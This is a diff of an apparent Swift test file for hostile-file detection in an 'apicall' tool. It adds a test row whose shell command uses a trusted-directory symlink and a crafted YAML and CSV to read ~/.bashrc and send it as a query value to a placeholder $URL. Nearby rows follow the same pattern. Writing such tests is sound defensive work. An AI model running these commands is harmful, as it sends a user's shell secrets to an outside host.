@@ -61,6 +61,12 @@ struct HostileFileRuleTests {
       "printf 'inputs: {k: {env: KEY}}\\nurl: %s/<k>\\n' $URL > run.yaml; apicall trust .; "
         + "chmod 666 run.yaml; KEY=$(cat ~/.bashrc) apicall run run.yaml"),
     Row(
+      .trustedLink,
+      "mkdir ../mine; apicall trust ../mine; printf 'inputs: {k: {env: KEY}}\\nsteps: {a: {each: "
+        + "{csv: rows.csv}, call: {url: <each.url>, query: {k: <k>}}}}\\n' > ../mine/run.yaml; "
+        + "printf 'url\\n%s/\\n' $URL > rows.csv; ln -s ../mine/run.yaml .; "
+        + "KEY=$(cat ~/.bashrc) apicall run run.yaml"),
+    Row(
       .foreignPart,
       "printf 'url: %s/part\\n' $URL > get.yaml; get='apicall run get.yaml --output x --continue'; "
         + "$get --timeout 300ms; mkdir c; cp get.yaml x.part.json c; cd c; printf 'evil66' > x.part; "
